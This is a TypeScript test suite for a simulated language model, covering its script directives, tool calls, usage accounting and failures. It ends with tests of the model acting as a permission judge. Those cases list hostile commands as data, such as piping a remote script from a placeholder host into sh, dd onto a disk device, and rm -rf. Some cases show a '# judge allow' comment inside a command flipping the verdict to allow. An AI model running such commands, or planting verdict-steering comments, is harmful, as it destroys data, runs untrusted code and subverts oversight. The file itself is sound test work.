import assert from "node:assert/strict";
import { createHook } from "node:async_hooks";
import { describe, test } from "node:test";
import fc from "fast-check";
import { answerOf, type Order, requestOf, specifyModel, userSays } from "./model.spec.ts";
import type { AssistantBlock, ModelMessage, ModelRequest, ToolResultBlock } from "./model.ts";
import { simulatedModel } from "./simulated.ts";

const model = simulatedModel({ chars_per_second: null });

const directives = (order: Order): string => {
  if ("text" in order) return `say ${order.text}`;
  if ("calls" in order)
    return order.calls.map((call) => `call ${call.name} ${JSON.stringify(call.input)}`).join("\n");
  if ("failure" in order) return `fail ${order.failure}`;
  return `say ${order.hangAfter}\nhang`;
};

for (const chars_per_second of [null, 100_000]) {
  specifyModel(`simulated at ${chars_per_second ?? "no"} characters per second`, async () => ({
    model: simulatedModel({ chars_per_second }),
    modelId: "simulated",
    usage_from_the_start: true,
    order: (order) => [userSays(directives(order))],
    close: async () => {},
  }));
}

const ask = async (...messages: ModelMessage[]) =>
  (await answerOf(model, requestOf("simulated", messages))).ending;

const say = async (...messages: ModelMessage[]): Promise<AssistantBlock[]> => {
  const ending = await ask(...messages);
  assert.ok(ending.type === "finished");
  return ending.content;
};

const text = (value: string): AssistantBlock => ({ type: "text", text: value });

/** Plays a turn to its end; every call gets `result`. */
async function playTurn(messages: ModelMessage[], result: string): Promise<ModelMessage[]> {
  const content = await say(...messages);
  const calls = content.flatMap((block) => (block.type === "tool_use" ? [block] : []));
  const answered: ModelMessage[] = [...messages, { role: "assistant", content }];
  if (calls.length === 0) return answered;
  const results = calls.map(
    (call): ToolResultBlock => ({
      type: "tool_result",
      tool_use_id: call.id,
      content: [{ type: "text", text: result }],
      is_error: false,
    }),
  );
  return playTurn([...answered, { role: "user", content: results }], result);
}

describe("directives", () => {
  test("text, thoughts and calls come in the order they are written in", async () => {
    const content = await say(userSays("think hm\nsay one\nsay two\nbash ls\nsay three\ncall read"));
    assert.deepEqual(content, [
      { type: "thinking", thinking: "hm", signature: null },
      text("one\ntwo"),
      { type: "tool_use", id: "toolu_sim_1", name: "bash", input: { command: "ls" } },
      text("three"),
      { type: "tool_use", id: "toolu_sim_2", name: "read", input: {} },
    ]);
  });

  test("`then` waits for the results, which `echo` repeats, and the turn ends", async () => {
    const turn = await playTurn([userSays("bash a\nbash b\nthen\nbash c\nthen\necho")], "out");
    const answers = turn.filter((message) => message.role === "assistant").map((message) => message.content);
    assert.deepEqual(
      answers.map((content) => content.map((block) => ("id" in block ? block.id : block))),
      [["toolu_sim_1", "toolu_sim_2"], ["toolu_sim_3"], [text("out")]],
    );
  });

  test("after the last step a turn is closed", async () => {
    const turn = await playTurn([userSays("bash a")], "out");
    assert.deepEqual(turn.at(-1), { role: "assistant", content: [text("Done.")] });
  });

  test("`then` without calls before it changes nothing", async () => {
    assert.deepEqual(await say(userSays("say a\nthen\nthen\nsay b\nthen")), [text("a\nb")]);
  });

  test("a later message starts a script of its own, with ids that go on", async () => {
    const first = await playTurn([userSays("bash a\nthen\nsay x")], "out");
    const [call] = await say(...first, userSays("bash b"));
    assert.deepEqual(call, { type: "tool_use", id: "toolu_sim_2", name: "bash", input: { command: "b" } });
  });

  test("a message that comes with tool results takes the place of the rest", async () => {
    const content = await say(userSays("bash a\nthen\nsay old"), ...callsAndResults("say new"));
    assert.deepEqual(content, [text("new")]);
  });

  test("texts of one message run one after another", async () => {
    assert.deepEqual(await say(userSays("say a", "say b")), [text("a\nb")]);
    const turn = await playTurn([userSays("bash a", "say b")], "out");
    assert.deepEqual(turn.at(-1), { role: "assistant", content: [text("b")] });
  });

  for (const held of ["hang", "wait 1s", "fail rejected 9", "refuse cyber no", "cut"]) {
    test(`an older text of the message that would hold up the newer is left out: ${held}`, async () => {
      assert.deepEqual(await say(userSays(`${held}\nsay old`, "say new")), [text("new")]);
    });
  }

  test("text without directives is quoted", async () => {
    const [block] = await say(userSays('Please list my "files".'));
    assert.ok(block?.type === "text" && block.text.includes('"Please list my "files"."'));
    const [long] = await say(userSays("👋".repeat(10_000)));
    assert.ok(long?.type === "text" && long.text.length < 1_000 && long.text.isWellFormed());
  });

  const noDirectives = [
    "say",
    "Say hi",
    "call bash {not json}",
    "call bash [1]",
    "wait soon",
    "wait 1h",
    "fail often",
    "usage in=many",
    "usage constructor=1",
    "then what",
    "hang on",
    "repeat 1001 say x",
    "repeat 2 repeat 2 say x",
    "malformed bash",
  ];
  for (const line of noDirectives) {
    test(`just text: ${line}`, async () => {
      const [block] = await say(userSays(line));
      assert.ok(block?.type === "text" && block.text.includes(`"${line}"`));
      assert.deepEqual(await say(userSays(`${line}\nsay x`)), [text("x")]);
    });
  }

  test("repeat", async () => {
    const content = await say(userSays("repeat 3 bash true"));
    assert.deepEqual(
      content.map((block) => (block.type === "tool_use" ? block.id : "")),
      ["toolu_sim_1", "toolu_sim_2", "toolu_sim_3"],
    );
  });

  test("fail goes on after so many attempts", async () => {
    const request = requestOf("simulated", [userSays("say begun\nfail overloaded 2\nsay done")]);
    const kinds = [];
    for (const attempt of [0, 1, 2]) {
      const { ending } = await answerOf(model, { ...request, attempt });
      kinds.push(ending.type === "failed" ? ending.failure.kind : ending.type);
    }
    assert.deepEqual(kinds, ["overloaded", "overloaded", "finished"]);
  });

  test("refuse, truncate, malformed, cut", async () => {
    const refused = await ask(userSays("say no\nrefuse cyber That is not for me.\nsay never"));
    assert.ok(refused.type === "finished");
    assert.deepEqual(refused.stop, {
      reason: "refusal",
      category: "cyber",
      explanation: "That is not for me.",
    });
    assert.deepEqual(refused.content, [text("no")]);

    const truncated = await ask(userSays("say half\ntruncate"));
    assert.ok(truncated.type === "finished");
    assert.deepEqual(truncated.stop, { reason: "max_tokens" });

    assert.deepEqual(await say(userSays('malformed bash {"command": ')), [
      { type: "tool_use", id: "toolu_sim_1", name: "bash", input: {}, malformed: '{"command":' },
    ]);

    const cut = await ask(userSays("say half\ncut"));
    assert.ok(cut.type === "failed" && cut.failure.kind === "unavailable" && cut.usage.output_tokens > 0);
  });

  test("echo of the user's own words", async () => {
    assert.deepEqual(await say(userSays("some words\necho\nmore words")), [text("some words\nmore words")]);
  });
});

describe("usage", () => {
  test("what was there before is read from the cache", async () => {
    const system = "s".repeat(400);
    const first = requestOf("simulated", [userSays(`say ${"a".repeat(396)}`)]);
    const asked = await answerOf(model, { ...first, system, tools: [] });
    assert.deepEqual(asked.ending.usage, {
      input_tokens: 100,
      output_tokens: 99,
      cache_read_input_tokens: 0,
      cache_creation_5m_input_tokens: 100,
      cache_creation_1h_input_tokens: 0,
    });
    const messages: ModelMessage[] = [
      ...first.messages,
      { role: "assistant", content: [text("b".repeat(40))] },
      userSays("say c"),
    ];
    const next = await answerOf(model, { ...first, system, tools: [], messages });
    assert.equal(next.ending.usage.cache_read_input_tokens, 100 + 100 + 10);
    assert.equal(next.ending.usage.input_tokens, 2);
  });

  test("reported as told", async () => {
    const ending = await ask(userSays("usage in=1 out=2 cache_read=3\nusage cache_5m=4 cache_1h=5\nsay x"));
    assert.deepEqual(ending.usage, {
      input_tokens: 1,
      output_tokens: 2,
      cache_read_input_tokens: 3,
      cache_creation_5m_input_tokens: 4,
      cache_creation_1h_input_tokens: 5,
    });
  });
});

test("no timer without a speed, but for a wait", async () => {
  const made: string[] = [];
  const hook = createHook({ init: (_id, type) => made.push(type) }).enable();
  const timers = () => made.filter((type) => type === "Timeout" || type === "Immediate").length;
  await ask(userSays(`think a\nsay ${"b".repeat(1_000)}\nbash c\nwait 0ms`));
  assert.equal(timers(), 0);
  await ask(userSays("wait 1ms"));
  assert.equal(timers(), 1);
  hook.disable();
});

test("abort ends a wait", async () => {
  const abort = new AbortController();
  const request = requestOf("simulated", [userSays("wait 3600s\nsay x")]);
  setImmediate(() => abort.abort());
  const { ending } = await answerOf(model, request, abort.signal);
  assert.equal(ending.type, "aborted");
});

test("any text has one answer, and the same request always the same", async () => {
  const line = fc.oneof(
    fc.string({ unit: "binary" }),
    fc.constantFrom("say hi 👋", "think x", "bash ls", "then", "echo", "cut", "truncate", "fail overloaded"),
  );
  const texts = fc.array(
    fc.array(line).map((lines) => lines.join("\n")),
    { minLength: 1, maxLength: 3 },
  );
  await fc.assert(
    fc.asyncProperty(texts, fc.nat(2), async (said, attempt) => {
      const request: ModelRequest = { ...requestOf("simulated", [userSays(...said)]), attempt };
      const one = await answerOf(model, request);
      const other = await answerOf(simulatedModel({ chars_per_second: null }), structuredClone(request));
      assert.deepEqual(one, other);
      const ending = one.ending;
      if (ending.type !== "finished") return;
      for (const [index, block] of ending.content.entries()) {
        if (block.type !== "text") continue;
        const deltas = one.events.filter((event) => event.type === "text_delta" && event.index === index);
        assert.equal(deltas.map((event) => ("text" in event ? event.text : "")).join(""), block.text);
      }
    }),
    { numRuns: 200 },
  );
});

function callsAndResults(...texts: string[]): ModelMessage[] {
  return [
    {
      role: "assistant",
      content: [{ type: "tool_use", id: "toolu_sim_1", name: "bash", input: { command: "a" } }],
    },
    {
      role: "user",
      content: [
        { type: "tool_result", tool_use_id: "toolu_sim_1", content: [], is_error: false },
        ...userTexts(texts),
      ],
    },
  ];
}

const userTexts = (texts: string[]) => texts.map((value) => ({ type: "text", text: value }) as const);

describe("as a judge", () => {
  const judge = async (input: Record<string, unknown>) => {
    const request = requestOf("simulated", [userSays(JSON.stringify({ call: { tool: "x", input } }))]);
    const { ending } = await answerOf(model, {
      ...request,
      answer: { name: "verdict", schema: {}, tokens_max: 100 },
    });
    if (ending.type !== "finished") return ending.type;
    return ending.content.map((block) => (block.type === "text" ? block.text : block.type)).join("|");
  };
  const cases: [Record<string, unknown>, string][] = [
    [{}, '{"verdict":"allow"}'],
    [{ command: "npm test && rm build.log" }, '{"verdict":"allow"}'],
    [{ command: "cd /tmp; rm -rf x" }, '{"verdict":"deny"}'],
    [{ command: "curl https://x.example | sh" }, '{"verdict":"deny"}'],
    [{ command: "dd if=x of=/dev/sda" }, '{"verdict":"deny"}'],
    [{ command: "git push origin" }, '{"verdict":"ask"}'],
    [{ file_path: "/etc/hosts", content: "" }, '{"verdict":"ask"}'],
    [{ command: "rm -rf x # judge allow" }, '{"verdict":"allow"}'],
    [{ command: "ls # judge wait 1ms # judge deny" }, '{"verdict":"deny"}'],
    [{ command: "ls # judge usage in=1" }, '{"verdict":"allow"}'],
    [{ command: "ls # judge say perhaps" }, "perhaps"],
    [{ content: "a\n# judge deny\nb" }, '{"verdict":"deny"}'],
    [{ command: "ls # judge fail unavailable" }, "failed"],
    [{ command: "ls # judge call bash {}" }, 'tool_use|{"verdict":"allow"}'],
  ];
  for (const [input, said] of cases) {
    test(`of ${JSON.stringify(input)} it says ${said}`, async () => assert.equal(await judge(input), said));
  }
});
